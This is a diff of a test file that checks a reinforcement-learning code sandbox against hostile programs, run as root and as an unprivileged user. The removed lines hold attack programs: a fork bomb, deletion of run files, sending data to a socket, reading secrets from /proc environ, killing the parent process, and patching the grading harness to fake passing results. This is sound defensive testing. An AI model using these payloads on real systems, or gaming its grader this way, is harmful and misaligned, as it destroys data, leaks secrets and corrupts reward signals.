@@ -1,38 +1,45 @@
-"""The code sandbox against programs that attack it (issue 16, item 4).
+"""The code sandbox against programs that attack it (issue 34), as root and as an ordinary user.
 
-Each attack is written so that, if it worked, the program would pass its test: the reward must be 0, and
-the machine, the run directory and this test process must be untouched. All attacks run in one parallel
-batch (a few seconds in all).
+The attacks (`tests/sandbox_attacks.py`) run in one parallel batch in this process, and once more as uid 65534
+in a Debian Python started with `setpriv` (CI runs as root; rlvr's users mostly do not). Each attack's tests
+pass only if it works: every attack must pass none, and what it aimed at (a canary, the run directory, the
+data set, rlvr's own sources, site-packages, a TCP port, a unix socket in /tmp, /dev/shm, this process) must
+be as it was.
 """
 
 from __future__ import annotations
 
 import hashlib
+import json
 import os
+import shutil
 import socket
-import textwrap
+import subprocess
+import sys
+import tempfile
 import threading
 import time
 from pathlib import Path
 
 import pytest
 
+import sandbox_attacks
+import rlvr.sandbox as sandbox_module
 from rlvr.code_rewards import grade_programs, parse_tests
 from rlvr.code_tasks import code_answer
 from rlvr.rewards import CodeTestsReward, score_batch
-from rlvr.sandbox import Check, Job, SandboxLimits, isolation, run_program, run_programs
+from rlvr.sandbox import Check, Job, SandboxLimits, run_program, run_programs
 
 LIMITS = SandboxLimits(timeout=4, cpu_seconds=2, memory_mb=256, file_mb=8, processes=16, output_kb=256)
 SECRET = "rlvr-test-secret-0b9a7c"
-NAMESPACES = isolation() == "namespaces"
-# what only the namespaces stop (the limits-only fallback runs programs as the user running rlvr)
-# (and a fork bomb is not even tried without them: RLIMIT_NPROC does not bind root)
-NAMESPACES_ONLY = {"network", "read_secrets", "kill_parent", "delete_outside", "write_10_gb_file", "detached_survivor",
-                   "fork_bomb"}
+HIDDEN = "assert hidden_solution(41) == 1681"
+NOBODY = 65534
+SYSTEM_PYTHON = "/usr/bin/python3"
+ROOT = os.geteuid() == 0
 
 
 def _fence(code: str) -> str:
-    return f"```python\n{textwrap.dedent(code).strip()}\n```\n"
+    return f"```python\n{code.strip()}\n```\n"
 
 
 def _sandbox_processes() -> list[int]:
@@ -40,226 +47,216 @@ def _sandbox_processes() -> list[int]:
     for entry in Path("/proc").iterdir():
         if entry.name.isdigit():
             try:
-                if b"sandbox_child.py" in (entry / "cmdline").read_bytes():
+                if b"harness.py" in (entry / "cmdline").read_bytes():
                     pids.append(int(entry.name))
             except OSError:
                 pass
     return pids
 
 
-def _attacks(canary: Path, run_dir: Path, port: int) -> dict[str, tuple[str, list[str]]]:
-    """name -> (program, tests): the test passes only if the attack succeeds."""
-    me = os.getpid()
-    return {
-        "infinite_loop": ("def f(x):\n    while True:\n        pass", ["assert f(1) == 1"]),
-        "fork_bomb": ("""
-            import os
-            while True:
-                try:
-                    os.fork()
-                except OSError:
-                    pass
-            def f(x):
-                return x""", ["assert f(1) == 1"]),
-        "allocate_50_gb": ("""
-            block = bytearray(50 * 1024 ** 3)
-            def f(x):
-                return x""", ["assert f(1) == 1"]),
-        "write_10_gb_file": ("""
-            import os
-            wrote = 0
-            for path in ["big.bin", "/tmp/rlvr-big.bin", os.path.expanduser("~/big.bin")]:
-                try:
-                    with open(path, "wb") as fh:
-                        for _ in range(10 * 1024):
-                            fh.write(b"0" * (1 << 20))
-                            wrote += 1
-                except OSError:
-                    pass
-            def f():
-                return wrote""", ["assert f() >= 10240"]),
-        "delete_outside": (f"""
-            import os, shutil
-            deleted = 0
-            for path in [{str(canary)!r}, {str(run_dir / "metrics.jsonl")!r}, {str(run_dir / "checkpoints")!r}]:
-                try:
-                    os.remove(path)
-                    deleted += 1
-                except OSError:
-                    pass
-                try:
-                    shutil.rmtree(path)
-                    deleted += 1
-                except OSError:
-                    pass
-            def f():
-                return deleted""", ["assert f() >= 1"]),
-        "network": (f"""
-            import socket
-            def f():
-                s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
-                s.sendall(b"stolen")
-                return 1""", ["assert f() == 1"]),
-        "read_secrets": (f"""
-            import os
-            found = {SECRET!r} in repr(dict(os.environ))
-            for pid in ["self", "1", str(os.getppid()), "{me}"]:
-                try:
-                    found = found or {SECRET!r}.encode() in open(f"/proc/{{pid}}/environ", "rb").read()
-                except OSError:
-                    pass
-            def f():
-                return found""", ["assert f() == True"]),
-        "kill_parent": (f"""
-            import os, signal
-            killed = False
-            for pid in [{me}, os.getppid(), -1]:
-                try:
-                    if pid > 1 or pid == -1:
-                        os.kill(pid, signal.SIGKILL)
-                        killed = killed or pid != -1
-                except OSError:
-                    pass
-            def f():
-                return killed""", ["assert f() == True"]),
-        "print_1_gb": ("""
-            import sys
-            for _ in range(1024):
-                sys.stdout.write("x" * (1 << 20))
-            sys.stdout.flush()
-            def f(x):
-                return x""", ["assert f(1) == 1"]),
-        "exit_before_tests": ("import sys\nsys.exit(0)\ndef f(x):\n    return x", ["assert f(1) == 1"]),
-        "os_exit_before_tests": ("import os\nos._exit(0)\ndef f(x):\n    return x", ["assert f(1) == 1"]),
-        "patch_the_harness": ("""
-            import builtins, json, os, sys
-            class Yes:
-                def __eq__(self, other): return True
-                def __ne__(self, other): return False
-                def __bool__(self): return True
-                def __repr__(self): return "823543"
-            for i in range(4):  # fake records straight into the result pipe
-                for fd in range(3, 10):
-                    try:
-                        os.write(fd, json.dumps({"check": i, "value": "True"}).encode() + b"\\n")
-                    except OSError:
-                        pass
-            json.dumps = lambda *a, **k: '{"check": 0, "value": "True"}'
-            builtins.AssertionError = Exception
-            builtins.isinstance = lambda *a: True
-            def f(x):
-                return Yes()""", ["assert f(7) == 823543", "assert f(2) == 128", "assert f(3)", "assert f(4) == f(4)"]),
-        "never_returns_control": ("""
-            import signal, time
-            for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
-                signal.signal(sig, signal.SIG_IGN)
-            while True:
-                try:
-                    time.sleep(1000)
-                except BaseException:
-                    pass""", ["assert f(1) == 1"]),
-        "detached_survivor": (f"""
-            import os, time
-            if os.fork() == 0:
-                os.setsid()
-                if os.fork() == 0:
-                    time.sleep(8)
-                    open({str(canary.parent / "survivor")!r}, "w").write("alive")
-                os._exit(0)
-            def f():
-                return 1
-            while True:
-                pass""", ["assert f() == 1"]),
-    }
+def _digest(root: Path) -> dict[str, str]:
+    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(root.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}
+
+
+def _dev_shm() -> set[str]:
+    return set(os.listdir("/dev/shm")) if os.path.isdir("/dev/shm") else set()
+
+
+class Listeners:
+    """A TCP port on 127.0.0.1 and a world-writable unix socket in /tmp, recording what reaches them."""
+
+    def __init__(self):
+        self.received: list[bytes] = []
+        self.tcp = socket.socket()
+        self.tcp.bind(("127.0.0.1", 0))
+        self.tcp.listen(16)
+        self.unix_path = f"/tmp/rlvr-test-{os.getpid()}-{time.monotonic_ns()}.sock"
+        self.unix = socket.socket(socket.AF_UNIX)
+        self.unix.bind(self.unix_path)
+        os.chmod(self.unix_path, 0o777)
+        self.unix.listen(16)
+        self.stop = threading.Event()
+        self.threads = [threading.Thread(target=self._accept, args=(s,), daemon=True) for s in (self.tcp, self.unix)]
+        for s in (self.tcp, self.unix):
+            s.settimeout(0.2)
+        for thread in self.threads:
+            thread.start()
+
+    def _accept(self, server):
+        while not self.stop.is_set():
+            try:
+                conn = server.accept()[0]
+                self.received.append(conn.recv(100) or b"(connected)")
+            except OSError:
+                pass
+
+    def close(self):
+        self.stop.set()
+        for thread in self.threads:
+            thread.join()
+        self.tcp.close()
+        self.unix.close()
+        os.unlink(self.unix_path)
+
+
+def make_targets(base: Path, sources: Path, site_packages: Path, listeners: Listeners) -> dict:
+    run_dir = base / "run"
+    (run_dir / "checkpoints").mkdir(parents=True)
+    (run_dir / "metrics.jsonl").write_text('{"step": 1}\n')
+    (run_dir / "secret.txt").write_text(SECRET)
+    (run_dir / "checkpoints" / "state.bin").write_bytes(os.urandom(4096))
+    (base / "canary.txt").write_text("keep me")
+    dataset = base / "code.jsonl"
+    dataset.write_text(json.dumps({"prompt": "Square it.", "tests": [HIDDEN], "entry_point": "hidden_solution"}) + "\n")
+    return {"run_dir": str(run_dir), "canary": str(base / "canary.txt"), "dataset": str(dataset), "hidden": HIDDEN,
+            "port": listeners.tcp.getsockname()[1], "unix_socket": listeners.unix_path, "secret": SECRET,
+            "pid": os.getpid(), "survivor": str(base / "survivor"), "sources": str(sources),
+            "site_packages": str(site_packages)}
+
+
+def _attack_as(user: str, tmp_root: Path) -> dict:
+    """Run the whole batch as `user` ("root": in this process; "nobody": uid 65534, Debian's Python) and
+    return what each attack scored plus the state of everything it aimed at, before and after."""
+    listeners = Listeners()
+    base = Path(tempfile.mkdtemp(prefix=f"rlvr-attacks-{user}-", dir="/tmp"))
+    os.chmod(base, 0o755)
+    try:
+        if user == "root":
+            sources = Path(sandbox_module.__file__).parent
+            site_packages = sources.parent.parent  # where rlvr is imported from (src/ or site-packages)
+        else:  # a copy nobody owns, so that an escape could really rewrite it
+            site_packages = base / "site"
+            shutil.copytree(Path(sandbox_module.__file__).parent.parent, site_packages / "rlvr",
+                            ignore=shutil.ignore_patterns("__pycache__", "*.pyc", "data", "prompts"))
+            import pyseccomp
+
+            shutil.copy(pyseccomp.__file__, site_packages)
+            shutil.copy(Path(__file__).with_name("sandbox_attacks.py"), base)
+            sources = site_packages / "rlvr" / "sandbox"
+        targets = make_targets(base, sources, site_packages, listeners)
+        if user == "nobody":
+            for path in [base, *base.rglob("*")]:
+                os.chown(path, NOBODY, NOBODY)
+        watched = {"run": _digest(Path(targets["run_dir"])), "sources": _digest(sources),
+                   "dataset": Path(targets["dataset"]).read_text(), "shm": _dev_shm(),
+                   "site": sorted(os.listdir(site_packages))}
+        os.environ["RLVR_TEST_SECRET"] = SECRET
+        try:
+            if user == "root":
+                report = sandbox_attacks.run(targets, LIMITS)
+            else:
+                (base / "targets.json").write_text(json.dumps(targets))
+                proc = subprocess.run(
+                    ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", SYSTEM_PYTHON,
+                     str(base / "sandbox_attacks.py"), str(base / "targets.json")],
+                    capture_output=True, text=True, timeout=120, cwd=base,
+                    env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "PYTHONPATH": str(site_packages),
+                         "RLVR_TEST_SECRET": SECRET, "HOME": str(base), "PYTHONDONTWRITEBYTECODE": "1"})
+                assert proc.returncode == 0, proc.stderr[-3000:]
+                report = json.loads(proc.stdout.strip().splitlines()[-1])
+        finally:
+            del os.environ["RLVR_TEST_SECRET"]
+        time.sleep(0.3)
+        after = {"run": _digest(Path(targets["run_dir"])), "sources": _digest(sources),
+                 "dataset": Path(targets["dataset"]).read_text(), "shm": _dev_shm(),
+                 "site": sorted(os.listdir(site_packages))}
+        return {**report, "before": watched, "after": after, "received": list(listeners.received),
+                "canary": Path(targets["canary"]).read_text() if Path(targets["canary"]).exists() else None,
+                "survivor": Path(targets["survivor"]), "base": base}
+    finally:
+        listeners.close()
+
+
+def _can_run_as_nobody() -> str | None:
+    if not ROOT:
+        return "this suite already runs as an ordinary user"
+    if shutil.which("setpriv") is None or not os.path.exists(SYSTEM_PYTHON):
+        return f"needs setpriv and {SYSTEM_PYTHON} to run the batch as uid {NOBODY}"
+    return None
+
+
+USERS = ["root", "nobody"] if ROOT else ["user"]
 
 
 @pytest.fixture(scope="module")
 def attacked(tmp_path_factory):
-    """Run every attack at once; return what each scored and the state of things around them."""
-    base = tmp_path_factory.mktemp("attacks")
-    canary = base / "canary.txt"
-    canary.write_text("keep me")
-    run_dir = base / "run"
-    (run_dir / "checkpoints").mkdir(parents=True)
-    (run_dir / "metrics.jsonl").write_text('{"step": 1}\n')
-    (run_dir / "checkpoints" / "state.bin").write_bytes(os.urandom(4096))
-    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in run_dir.rglob("*") if p.is_file()}
-
-    server = socket.socket()
-    server.bind(("127.0.0.1", 0))
-    server.listen(8)
-    server.settimeout(0.2)
-    connections = []
-    stop = threading.Event()
-
-    def accept():
-        while not stop.is_set():
-            try:
-                connections.append(server.accept()[0].recv(100))
-            except OSError:
-                pass
-
-    listener = threading.Thread(target=accept, daemon=True)
-    listener.start()
-    os.environ["RLVR_TEST_SECRET"] = SECRET
-    try:
-        attacks = _attacks(canary, run_dir, server.getsockname()[1])
-        names = [n for n in attacks if NAMESPACES or n not in NAMESPACES_ONLY]
-        reward = CodeTestsReward(limits=LIMITS)
-        started = time.perf_counter()
-        scores, meta = score_batch(reward, [_fence(attacks[n][0]) for n in names],
-                                   [code_answer(attacks[n][1], "f") for n in names])
-        seconds = time.perf_counter() - started
-    finally:
-        del os.environ["RLVR_TEST_SECRET"]
-        stop.set()
-        listener.join()
-        server.close()
-    time.sleep(0.5)
-    return {"scores": dict(zip(names, scores)), "meta": meta, "seconds": seconds, "canary": canary,
-            "run_dir": run_dir, "before": before, "connections": connections, "survivor": base / "survivor"}
+    sandbox_module.configure("bwrap")
+    runs = {}
+    for user in USERS:
+        if user == "nobody" and _can_run_as_nobody():
+            continue
+        runs[user] = _attack_as("root" if user == "user" else user, tmp_path_factory.mktemp(user))
+    yield runs
+    for report in runs.values():
+        shutil.rmtree(report["base"], ignore_errors=True)
 
 
-ATTACKS = list(_attacks(Path("/x"), Path("/y"), 1))
+def _report(attacked, user):
+    if user not in attacked:
+        pytest.skip(_can_run_as_nobody() or "not run")
+    return attacked[user]
 
 
+ATTACKS = list(sandbox_attacks.attacks({k: "/x" if k != "port" else 1 for k in
+                                        ("run_dir", "dataset", "canary", "port", "unix_socket", "secret", "pid",
+                                         "survivor", "sources", "site_packages", "hidden")}))
+
+
+@pytest.mark.parametrize("user", USERS)
 @pytest.mark.parametrize("name", ATTACKS)
-def test_an_attack_scores_zero(attacked, name):
-    if name in NAMESPACES_ONLY and not NAMESPACES:
-        pytest.skip("without namespaces the sandbox does not block this (see rlvr.sandbox)")
-    assert attacked["scores"][name] == {"reward": 0.0, "format_reward": 1.0, "answer_reward": 0.0}
+def test_an_attack_passes_no_test(attacked, user, name):
+    result = _report(attacked, user)["attacks"][name]
+    assert result["passed"] == 0, result
 
 
-def test_attacks_leave_the_machine_the_run_and_this_process_intact(attacked):
-    if NAMESPACES:
-        assert attacked["canary"].read_text() == "keep me"
-        run_dir = attacked["run_dir"]
-        after = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in run_dir.rglob("*") if p.is_file()}
-        assert after == attacked["before"]
-        assert not Path("/tmp/rlvr-big.bin").exists()
-        assert attacked["connections"] == []  # nothing reached the listening socket
+@pytest.mark.parametrize("user", USERS)
+def test_attacks_leave_the_machine_the_run_and_rlvr_intact(attacked, user):
+    report = _report(attacked, user)
+    assert report["canary"] == "keep me"
+    assert report["after"] == report["before"]  # run directory, rlvr's sources, data set, /dev/shm, site-packages
+    assert report["received"] == []  # nothing reached the TCP port or the unix socket
+    assert not Path("/tmp/rlvr-big.bin").exists() and not Path("/tmp/rlvr-escaped").exists()
+    assert not Path("/usr/lib/rlvr-escaped").exists()
     assert not _sandbox_processes(), "a sandboxed process outlived its program"
-    # the whole batch is bounded by the wall-clock limit, not by the attacks (they ran in parallel)
-    assert attacked["seconds"] < 3 * LIMITS.timeout
-    meta = attacked["meta"]
-    assert meta["grading/code_programs"] == len(attacked["scores"])
-    if not NAMESPACES:
-        return
-    # infinite loop, fork bomb, never returns control, the survivor's parent (by wall clock or CPU time)
-    assert meta["grading/code_timeouts"] == 4
-    assert meta["grading/code_memory_kills"] == 1 and meta["grading/code_output_kills"] == 1
-    assert meta["grading/code_load_errors"] == 1  # sys.exit(0)
+    assert report["seconds"] < 3 * LIMITS.timeout  # the attacks ran in parallel, each within its wall clock
     # and the sandbox still grades an honest program right afterwards
     good = CodeTestsReward(limits=LIMITS)(_fence("def f(x):\n    return x * 2"), code_answer(["assert f(3) == 6"], "f"))
     assert good["reward"] == 1.0
 
 
-def test_a_detached_grandchild_dies_with_its_sandbox(attacked):
-    if not NAMESPACES:
-        pytest.skip("without a PID namespace a process that calls setsid() leaves the process group")
+@pytest.mark.parametrize("user", USERS)
+def test_what_stopped_each_attack(attacked, user):
+    status = {name: r["status"] for name, r in _report(attacked, user)["attacks"].items()}
+    assert status["infinite_loop"] == status["never_returns_control"] == status["fork_bomb"] == "timeout"
+    assert status["allocate_50_gb"] == "memory" and status["print_1_gb"] == "output_limit"
+    assert status["exit_before_tests"] == "load_error" and status["os_exit_before_tests"] == "crashed"
+    # the judge stopped listening to a program that sent it garbage, and said so
+    assert status["deep_json_reply"] == status["huge_reply"] == "crashed"
+
+
+@pytest.mark.parametrize("user", USERS)
+def test_a_detached_grandchild_dies_with_its_sandbox(attacked, user):
+    report = _report(attacked, user)
     time.sleep(0.1)
     assert not _sandbox_processes()
-    assert not attacked["survivor"].exists()  # (it would write the file after 8 s; it is gone already)
+    assert not report["survivor"].exists()
+
+
+def test_the_sandbox_from_inside_has_no_privileges_no_network_and_no_host_files():
+    """What the fail-closed probe reads from inside, asserted here directly (the same as root and as a user)."""
+    sandbox_module.configure("bwrap")
+    result = run_program(Job(sandbox_module._PROBE + "\nimport os\ndef extra():\n    return (os.getuid(), "
+                             "sorted(os.listdir('/')), os.listdir('/work'))\n",
+                             (Check("observe()"), Check("extra()"))), LIMITS)
+    from rlvr.sandbox.harness import decode
+
+    seen, (uid, top, work) = decode(result.values[0]), decode(result.values[1])
+    assert seen == {"capabilities": 0, "no_new_privs": 1, "seccomp": 2, "new_user_namespace": False,
+                    "writable_root": False, "interfaces": ["lo"], "home": False}
+    assert uid != 0 and work == []
+    assert set(top) <= {"usr", "lib", "lib64", "lib32", "root", "opt", "rlvr", "proc", "dev", "work", "bin"}
+    assert "home" not in top and "tmp" not in top and "etc" not in top and "var" not in top and "run" not in top
 
 
 # ----------------------------------------------------------------------------------------------------
@@ -286,14 +283,15 @@ def test_statuses_for_broken_programs():
                             Job("import os\nos.abort()", (Check("1"),))], LIMITS)
     assert [r.status for r in results] == ["syntax_error", "load_error", "crashed"]
     assert results[1].error == "ValueError"
+    assert "signal 6" in results[2].error  # SIGABRT, reported by the judge
 
 
-def test_the_limits_mode_still_catches_exits_loops_and_harness_patching(monkeypatch):
+def test_the_limits_only_mode_still_catches_exits_loops_and_harness_patching():
     cheat = ("import json\njson.dumps = lambda *a, **k: '{\"done\": true}'\nclass Y:\n    def __eq__(s, o): return True\n"
              "def f(x):\n    return Y()\n")
     jobs = [Job("import sys\nsys.exit(0)", (Check("1"),)), Job("while True:\n    pass", (Check("1"),)),
             Job(cheat, (Check("f(1)"),)), Job("def f(x):\n    return x + 1", (Check("f(1)"),))]
-    results = [run_program(job, SandboxLimits(timeout=2, cpu_seconds=1), mode="limits") for job in jobs]
+    results = [run_program(job, SandboxLimits(timeout=2, cpu_seconds=1), mode="limits_only") for job in jobs]
     assert [r.status for r in results[:2]] == ["load_error", "timeout"]
     assert results[2].values == [None] and results[3].values == ["2"]
 
@@ -305,16 +303,19 @@ def test_grading_64_programs_is_parallel_and_each_distinct_program_runs_once():
     assert outcome[0] == (0, 5) and outcome[1] == (5, 5) and outcome.count((5, 5)) == 48
     scores, meta = score_batch(CodeTestsReward(limits=LIMITS), [_fence(p) for p in programs], [truth] * 64)
     assert meta["grading/code_programs"] == 2 and sum(s["reward"] for s in scores) == 48
+    assert meta["grading/code_limits_only"] == 0
 
 
 def test_parse_tests_keeps_expected_values_out_of_the_sandbox():
+    from rlvr.code_rewards import _Is
+
     tests = parse_tests(code_answer(["assert f([1, 2]) == [2, 4]", "assert 3 == g(1)", "assert h(0) is None",
                                      "assert not k('')", "assert f(1) > 0",
                                      "import math\ndef test_sqrt():\n    assert math.isclose(r(4), 2.0)"], "f"))
     assert [(c.expr, c.kind) for c in tests.checks] == [("f([1, 2])", "value"), ("g(1)", "value"), ("h(0)", "value"),
                                                        ("k('')", "value"), ("f(1) > 0", "true"),
                                                        ("test_sqrt()", "value")]
-    assert tests.expected[:3] == ([2, 4], 3, None) and tests.checks[5].setup.startswith("import math\ndef test_sqrt")
+    assert tests.expected[:3] == ([2, 4], 3, _Is(None)) and tests.checks[5].setup.startswith("import math\ndef test_sqrt")
     assert all("[2, 4]" not in c.expr + c.setup for c in tests.checks)
     humaneval = parse_tests(code_answer(["def check(candidate):\n    assert candidate(2) == 4"], "double"))
     assert humaneval.checks[0].expr == "check(double)"
@@ -326,3 +327,9 @@ def test_pytest_style_tests_and_from_solution_import():
     right = CodeTestsReward(fraction=True, limits=LIMITS)
     assert right(_fence("def add(a, b):\n    return a + b"), truth)["reward"] == 1.0
     assert right(_fence("def add(a, b):\n    return abs(a + b)"), truth)["reward"] == 0.5
+
+
+def test_is_checks_mean_the_singleton_not_an_equal_value():
+    truth = code_answer(["assert f(1) is True", "assert f(0) is None"], "f")
+    assert grade_programs(["def f(x):\n    return 1 if x else 0"], [truth], LIMITS) == [(0, 2)]
+    assert grade_programs(["def f(x):\n    return True if x else None"], [truth], LIMITS) == [(2, 2)]
